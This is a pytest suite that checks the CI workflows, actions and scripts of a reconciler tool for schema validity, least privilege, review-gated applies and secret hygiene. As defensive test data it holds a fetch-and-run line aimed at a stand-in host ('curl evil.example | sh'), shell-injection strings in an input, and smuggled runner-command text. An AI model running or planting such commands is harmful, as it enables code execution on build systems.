"""The YAML that users run: valid by the platforms' schemas, clean by the auditors, and executed step by step."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
import yaml
from support.commands import command
from support.project import CONTENT, ProjectFolder
from support.schemas import violations

from ci.composite import Composite, Ran
from ci.github_server import PERSON, TOKEN, GitHubServer
from ci.gitlab_pipeline import BIN, GitLabPipeline, base_environ, script
from ci.gitlab_server import TOKEN as GITLAB_TOKEN
from ci.gitlab_server import GitLabServer
from ci.loopback import Reply
from reconciler.emulator import Emulator, Fault, ManualClock

ROOT = Path(__file__).parents[2]
ACTIONS = ROOT / ".github" / "actions"
EXAMPLES = ROOT / "examples" / "ci"
ASYNC = EXAMPLES / "async"
WORKFLOWS = [ROOT / ".github" / "workflows" / f"{name}.yml" for name in ("plan", "apply", "drift")]
SCRIPTS = sorted([*ACTIONS.glob("*/*.sh"), EXAMPLES / "generic.sh"])


def tool(*command: str | Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [str(BIN / command[0]), *map(str, command[1:])], cwd=ROOT, capture_output=True, text=True, check=False
    )


def load(file: Path) -> dict[Any, Any]:
    document = yaml.safe_load(file.read_text(encoding="utf-8"))
    assert isinstance(document, dict)
    return document


@pytest.mark.parametrize(
    ("schema", "files"),
    [
        (
            "github-workflows",
            [*WORKFLOWS, *sorted((EXAMPLES / "github").glob("*.yml")), ASYNC / "github.yml"],
        ),
        ("github-actions", sorted(ACTIONS.glob("*/action.yml"))),
        ("gitlab-ci", [EXAMPLES / "gitlab-ci.yml", ASYNC / "gitlab-ci.yml"]),
    ],
)
def test_the_files_are_valid(schema: str, files: list[Path]) -> None:
    assert files
    assert violations(schema, files) == ""


def test_the_auditor_finds_nothing() -> None:
    done = tool("zizmor", "--offline", "--no-progress", *WORKFLOWS, ACTIONS, EXAMPLES / "github", ASYNC)
    assert done.returncode == 0, done.stdout


def test_the_scripts_are_clean() -> None:
    done = tool("shellcheck", *SCRIPTS)
    assert done.returncode == 0, done.stdout
    for action in ("plan", "apply", "closed"):
        for step in load(ACTIONS / action / "action.yml")["runs"]["steps"]:
            if "run" in step:
                checked = subprocess.run(
                    [BIN / "shellcheck", "--shell=bash", "--exclude=SC1091,SC2154,SC2329", "-"],
                    input=step["run"], capture_output=True, text=True, check=False,
                )  # fmt: skip
                assert checked.returncode == 0, f"{step['name']}\n{checked.stdout}"


@pytest.mark.parametrize("script", SCRIPTS, ids=lambda script: script.name)
def test_bash_reads_the_scripts(script: Path) -> None:
    subprocess.run(["bash", "-n", script], check=True)


def test_every_workflow_asks_for_the_least() -> None:
    wanted = {
        "plan": {"contents": "read", "pull-requests": "write", "id-token": "write"},
        "apply": {"contents": "read", "pull-requests": "write", "id-token": "write"},
        "drift": {"contents": "read", "issues": "write", "id-token": "write"},
    }
    for file in WORKFLOWS:
        document = load(file)
        assert document["permissions"] == {}
        assert document["jobs"][file.stem]["permissions"] == wanted[file.stem]
        assert "inputs.target" in document["concurrency"]["group"]
    assert load(WORKFLOWS[1])["concurrency"]["cancel-in-progress"] is False


def test_what_users_copy_gives_the_inputs_that_are_asked_for_and_the_permissions_that_are_needed() -> None:
    for file in [*sorted((EXAMPLES / "github").glob("*.yml")), ASYNC / "github.yml"]:
        for job in load(file)["jobs"].values():
            name = job["uses"].split("/.github/workflows/")[1].partition("@")[0]
            assert name in (f"{file.stem}.yml", "apply.yml")
            called = load(ROOT / ".github" / "workflows" / name)
            inputs = called[True]["workflow_call"]["inputs"]
            assert job["with"].keys() <= inputs.keys()
            assert {name for name, spec in inputs.items() if spec.get("required")} <= job["with"].keys()
            assert job["permissions"] == called["jobs"][name.removesuffix(".yml")]["permissions"]


def test_the_workflows_give_the_actions_inputs_that_exist() -> None:
    for file in WORKFLOWS:
        step = load(file)["jobs"][file.stem]["steps"][-1]
        action = load(ROOT / step["uses"].removeprefix("$/") / "action.yml")
        assert step["with"].keys() <= action["inputs"].keys()


def test_the_guide_names_every_file_and_every_command() -> None:
    from reconciler.cli.ci import ci  # noqa: PLC0415

    guide = (EXAMPLES / "README.md").read_text(encoding="utf-8")
    for file in EXAMPLES.rglob("*"):
        if file.is_file() and file.name != "README.md":
            assert f"]({file.relative_to(EXAMPLES)})" in guide
    assert set(re.findall(r"^\| `ci ([a-z-]+)", guide, re.MULTILINE)) == ci.table.keys()


# ---- the steps, executed ----


class Job:
    """A job on GitHub: a repository with a project, the emulator as the service, the loopback server as GitHub."""

    def __init__(self, project: ProjectFolder, emulator: Emulator, host: GitHubServer, temporary: Path) -> None:
        self.project = project
        self.emulator = emulator
        self.host = host
        self.temporary = temporary

    def run(self, action: str, *, event: str = "pull_request", token: str = TOKEN, **inputs: str) -> Ran:
        number = '{"pull_request": {"number": 7}}' if event == "pull_request" else "{}"
        (self.temporary / "event.json").write_text(number, encoding="utf-8")
        environ = base_environ() | {
            "DLC_RECONCILER_ENDPOINT": self.emulator.url,
            "GITHUB_ACTIONS": "true",
            "GITHUB_API_URL": self.host.url,
            "GITHUB_EVENT_PATH": str(self.temporary / "event.json"),
            "GITHUB_REPOSITORY": "acme/models",
            "GITHUB_SHA": "feedc0de",
            "GITHUB_REF_TYPE": "branch" if event == "push" else "",
            "GITHUB_REF_NAME": "main" if event == "push" else "7/merge",
            "ACTIONS_ID_TOKEN_REQUEST_URL": f"{self.host.url}/oidc/token?api-version=2.0",
            "ACTIONS_ID_TOKEN_REQUEST_TOKEN": TOKEN,
        }
        composite = Composite(ACTIONS / action, self.project.root, self.temporary, environ)
        return composite.run({"token": token, "event_name": event}, **inputs)

    def merge(self) -> None:
        """Pull request 7 is merged; the next job runs on its merge commit."""
        self.host.merge(7, "feedc0de")


@pytest.fixture
def job(project: ProjectFolder, emulator: Emulator, github: GitHubServer, tmp_path: Path) -> Job:
    (project.root / ".git").mkdir()
    project.write("train", template("train"))
    temporary = tmp_path / "runner"
    temporary.mkdir()
    return Job(project, emulator, github, temporary)


def template(name: str, **content: object) -> Mapping[str, Any]:
    return {
        "apiVersion": "dlc-reconciler/v1",
        "kind": "JobTemplate",
        "metadata": {"name": name},
        "spec": {"content": {**CONTENT, **content}},
    }


def written(emulator: Emulator) -> list[str | None]:
    return [request.action for request in emulator.writes()]


@pytest.mark.slow
def test_plan_shows_the_plan_everywhere_and_writes_nothing(job: Job) -> None:
    job.project.write("train", template("train", UserCommand="a\n::set-output name=x::y\n##[error]b"))
    ran = job.run("plan", target="test")
    assert not ran.failed, ran.log
    assert ran.steps["plan"]["exit-code"] == "2"
    assert (ran.artifacts["dlc-plan-vision@test"] / "plan.json").is_file()
    (comment,) = job.host.bodies()
    assert comment.startswith("<!-- dlc-reconciler:plan project=vision target=test plan=")
    assert "https://github.example/a/dlc-plan-vision@test" in comment
    for shown in (comment, ran.summary, ran.log):
        assert "JobTemplate/train" in shown
        assert TOKEN not in shown
    assert written(job.emulator) == []
    # The runner is told to find no commands in what the plan says, and the plan says none.
    begin, end = re.search(r"::stop-commands::([0-9a-f]{32})", ran.log), ran.log.rfind("[error]b")
    assert "##[error]b" not in ran.log
    assert begin
    assert begin.start() < end < ran.log.rindex(f"::{begin[1]}::")


@pytest.mark.slow
def test_a_blocked_plan_edits_the_comment_and_fails_the_job(job: Job) -> None:
    job.run("plan")
    foreign = {"WorkspaceId": "1001", "TemplateName": "train", "Content": dict(CONTENT)}
    job.emulator.seed({"jobTemplates": [foreign]})
    ran = job.run("plan")
    assert ran.failed
    assert ran.steps["plan"]["exit-code"] == "3"
    assert ran.outcomes["Verdict"] == "failure"
    (comment,) = job.host.bodies()
    assert "apply refuses this plan" in comment


@pytest.mark.slow
def test_a_missing_permission_is_named_after_the_plan_was_shown(job: Job) -> None:
    job.host.read_only = True
    ran = job.run("plan")
    assert ran.failed
    assert ran.outcomes["Comment"] == "failure"
    assert "`pull-requests: write`" in ran.log
    assert "JobTemplate/train" in ran.summary


@pytest.mark.slow
def test_apply_does_what_was_reviewed_and_reports_on_the_pull_request(job: Job) -> None:
    job.project.write("more", template("more"))
    job.run("plan")
    job.merge()
    job.project.remove("more")  # part of what was reviewed is covered
    ran = job.run("apply", event="push")
    assert not ran.failed, ran.log
    assert written(job.emulator).count("CreateJobTemplate") == 1
    assert "done" in ran.summary
    assert "create JobTemplate/train" in (ran.artifacts["dlc-apply-vision@test"] / "report.txt").read_text(
        encoding="utf-8"
    )
    plan, report = job.host.bodies()
    assert "dlc-reconciler:plan" in plan
    assert "dlc-reconciler:apply" in report


@pytest.mark.slow
def test_apply_refuses_what_was_not_reviewed(job: Job) -> None:
    def refused(why: str) -> None:
        ran = job.run("apply", event="push")
        assert why in ran.log
        assert ran.failed
        assert ran.outcomes["Check what was reviewed"] == "failure"
        assert ran.outcomes["Apply"] == "skipped"
        assert written(job.emulator) == []

    refused("commit feedc0de came with no merged request")
    job.merge()
    refused("no plan of vision for test was shown on request 7")
    job.run("plan")
    job.project.write("train", template("train", UserCommand="curl evil.example | sh"))
    refused("1 of 1 actions were not reviewed")
    job.project.write("train", template("train"))
    for row in job.host.comments[7]:
        row["user"] = PERSON
    refused("no plan of vision for test was shown on request 7")


@pytest.mark.slow
def test_a_failed_apply_is_reported_and_a_lost_comment_changes_nothing(job: Job) -> None:
    job.run("plan")
    job.merge()
    job.emulator.faults.add(
        Fault(kind="error_before", action="CreateJobTemplate", status=400, code="InvalidParameter", times=None)
    )
    job.host.misbehave("POST /repos", Reply(403, {"message": "Resource not accessible by integration"}))
    ran = job.run("apply", event="push")
    assert ran.failed
    assert ran.steps["apply"]["exit-code"] == "1"
    assert ran.outcomes["Comment"] == "success"
    assert "::warning::The report could not be written" in ran.log
    assert "failed" in ran.summary
    assert "dlc-apply-vision@test" in ran.artifacts


@pytest.mark.slow
def test_drift_is_one_issue_and_closes(job: Job) -> None:
    inputs = {"comment": "false", "issue": "true"}
    job.run("plan", event="schedule", **inputs)
    assert [issue["state"] for issue in job.host.issues] == ["open"]
    job.run("apply", event="push", review="off", comment="false")
    job.run("plan", event="schedule", **inputs)
    assert [issue["state"] for issue in job.host.issues] == ["closed"]
    assert job.host.bodies() == []


@pytest.mark.slow
def test_a_wrong_manifest_is_annotated_on_its_line_and_nothing_is_planned(job: Job) -> None:
    job.project.write("train", template("train", UserComand="x"))
    ran = job.run("plan")
    assert ran.failed
    assert re.search(r"::error file=manifests/train\.yaml,line=\d+,col=\d+,title=DLC\d+::", ran.log), ran.log
    assert ran.outcomes["Plan"] == "skipped"
    assert job.emulator.request_count == 0


@pytest.mark.slow
def test_a_fork_is_validated_only(job: Job) -> None:
    ran = job.run("plan", plan="false")
    assert not ran.failed, ran.log
    assert {ran.outcomes[name] for name in ("Plan", "Keep the plan", "Summary", "Comment", "Verdict")} == {"skipped"}
    assert job.emulator.request_count == 0


@pytest.mark.slow
def test_the_role_is_assumed_with_a_token_from_github(job: Job) -> None:
    # The emulator is no token service: what is shown is that the token is asked for and lands where the chain reads it.
    ran = job.run("plan", role_arn="acs:ram::1:role/dlc", oidc_provider_arn="acs:ram::1:oidc-provider/github")
    token = job.temporary / "dlc-oidc-token"
    assert token.read_text(encoding="utf-8") == "token-for-sts.aliyuncs.com"
    assert token.stat().st_mode & 0o777 == 0o600
    assert "token-for" not in ran.log + ran.summary


@pytest.mark.slow
def test_hostile_inputs_are_data(job: Job) -> None:
    ran = job.run("plan", target="$(touch pwned); `touch pwned` \" ' && touch pwned")
    assert ran.failed
    assert not list(job.project.root.rglob("pwned"))


# ---- the other platforms ----


@pytest.mark.slow
def test_the_gitlab_jobs_do_what_they_say(project: ProjectFolder, emulator: Emulator, gitlab: GitLabServer) -> None:
    project.write("train", template("train"))
    assert command("init", project.root, "--ci", "gitlab").code == 0
    pipeline = GitLabPipeline(project.root / ".gitlab" / "dlc.yml", project.root, gitlab, emulator.url)
    run = pipeline.run
    validated = run("dlc-validate")
    assert validated.returncode == 0, validated.stderr
    assert (project.root / pipeline.jobs["dlc-validate"]["artifacts"]["reports"]["junit"]).is_file()
    planned = run("dlc-plan", CI_MERGE_REQUEST_IID="7")
    assert planned.returncode == 0, planned.stderr
    assert (project.root / "tmp" / "token").read_text(encoding="utf-8") == "signed"
    assert "JobTemplate/train" in gitlab.notes[7][0]["body"]
    assert json.loads((project.root / "counts.json").read_text(encoding="utf-8"))["create"] == 1
    train = run("dlc-plan", CI_MERGE_REQUEST_IID="7", CI_MERGE_REQUEST_EVENT_TYPE="merge_train")
    assert (train.returncode, len(gitlab.notes[7])) == (0, 1)
    refused = run("dlc-apply-test")
    assert refused.returncode == 3, refused.stderr
    assert written(emulator) == []
    gitlab.merge(7, "feedc0de")
    drifted = run("dlc-drift")
    assert drifted.returncode == 0, drifted.stderr
    applied = run("dlc-apply-test")
    assert applied.returncode == 0, applied.stderr
    assert written(emulator).count("CreateJobTemplate") == 1
    assert "Everything is done." in gitlab.notes[7][1]["body"]
    project.write("more", template("more"))
    unseen = run("dlc-apply-test")
    assert unseen.returncode == 3, unseen.stderr
    assert "JobTemplate/more" in gitlab.notes[7][1]["body"]
    project.write("more", template("more", UserComand="x"))
    assert run("dlc-apply-test").returncode == 1
    assert "the manifests of " in gitlab.notes[7][1]["body"]
    assert run("dlc-plan", CI_MERGE_REQUEST_IID="7").returncode == 1
    assert "Out of date: the manifests of " in gitlab.notes[7][0]["body"]
    project.remove("more")
    run("dlc-drift")
    assert [issue["state"] for issue in gitlab.issues] == ["closed"]
    assert GITLAB_TOKEN not in "".join(done.stdout + done.stderr for done in (planned, refused, applied, drifted))


@pytest.mark.slow
def test_the_generic_script_does_what_it_says(project: ProjectFolder, emulator: Emulator) -> None:
    project.write("train", template("train"))
    shutil.copy2(EXAMPLES / "generic.sh", project.root)

    def run(line: str) -> subprocess.CompletedProcess[str]:
        return script(line, cwd=project.root, DLC_RECONCILER_ENDPOINT=emulator.url, DLC_RECONCILER_TARGET="test")

    assert run("./generic.sh").returncode == 64
    assert run("OUT=review ./generic.sh plan").returncode == 2
    assert (project.root / "review" / "manifests.xml").is_file()
    project.write("more", template("more"))
    assert run("./generic.sh apply review/plan.json").returncode == 3
    assert written(emulator) == []
    project.remove("more")
    applied = run("./generic.sh apply review/plan.json")
    assert applied.returncode == 0, applied.stderr
    assert "create JobTemplate/train" in applied.stdout
    assert run("./generic.sh drift").returncode == 0


@pytest.mark.slow
def test_what_was_launched_after_the_merge_is_published_by_a_later_run(job: Job) -> None:
    """The run after the merge ends at once; the comment says what waits, and what was reviewed stays reviewed."""
    proved = template("train")
    proved["spec"]["verify"] = {"maxMinutes": 5}
    job.project.write("train", proved)
    job.emulator.seed({"jobLives": [{"job": "verify-*", "steps": [["Running", 60], "Succeeded"]}]})
    job.run("plan")
    job.merge()
    launched = job.run("apply", event="push", **{"no-wait": "true"})
    assert not launched.failed, launched.log
    assert written(job.emulator) == ["CreateJob"]
    assert "Nothing to do yet: 2 actions waiting." in job.host.bodies()[-1]
    assert isinstance(job.emulator.clock, ManualClock)
    job.emulator.clock.advance(120)
    finished = job.run("apply", event="push", **{"no-wait": "true"})
    assert not finished.failed, finished.log
    assert written(job.emulator)[1:] == ["CreateJobTemplate", "UpdateJobTemplate", "DeleteJob"]
    assert "Everything is done" in job.host.bodies()[-1]


@pytest.mark.slow
def test_a_held_version_fails_the_job_and_the_comment_has_its_cause(job: Job) -> None:
    proved = template("train")
    proved["spec"]["verify"] = {"maxMinutes": 5}
    job.project.write("train", proved)
    life = {"job": "verify-*", "steps": ["Failed"], "message": "exit code 1", "log": ["no module named apex"]}
    job.emulator.seed({"jobLives": [life]})
    job.run("plan")
    job.merge()
    ran = job.run("apply", event="push")
    assert ran.failed
    assert ran.steps["apply"]["exit-code"] == "4"
    assert "held" in job.host.bodies()[-1]
    assert "exit code 1" in job.host.bodies()[-1]
    assert job.emulator.store.templates() == []
